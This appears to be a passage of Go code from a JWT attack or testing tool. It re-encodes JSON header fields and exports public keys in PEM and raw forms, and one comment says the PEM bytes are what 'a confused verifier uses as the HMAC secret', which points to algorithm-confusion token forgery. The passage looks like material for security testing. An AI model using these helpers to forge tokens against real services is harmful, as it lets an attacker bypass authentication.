		raw := []byte(obj.Members[name])
		if v, ok := set[name]; ok {
			enc, err := json.Marshal(v)
			if err != nil {
				return nil, err
			}
			raw, done[name] = enc, true
		}
		write(name, raw)
	}
	for _, name := range slices.Sorted(maps.Keys(set)) {
		if done[name] {
			continue
		}
		enc, err := json.Marshal(set[name])
		if err != nil {
			return nil, err
		}
		write(name, enc)
	}
	b.WriteByte('}')
	return b.Bytes(), nil
}

// PublicPEM is the PKIX ("PUBLIC KEY") PEM of a public key, with its final
// newline: the bytes a confused verifier uses as the HMAC secret.
func PublicPEM(key crypto.PublicKey) ([]byte, error) {
	der, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		return nil, fmt.Errorf("the public key has no PEM form: %v", err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
}

// RawPublicKey is the key without any wrapping: Ed25519's 32 bytes, EC's
// uncompressed point 04||X||Y, RSA's PKCS#1 DER.
func RawPublicKey(key crypto.PublicKey) ([]byte, error) {
	switch k := key.(type) {
	case ed25519.PublicKey:
		return bytes.Clone(k), nil
	case *ecdsa.PublicKey:
		return k.Bytes()
	case *rsa.PublicKey:
		return x509.MarshalPKCS1PublicKey(k), nil
	}
	return nil, fmt.Errorf("no raw form for a %T key", key)
}
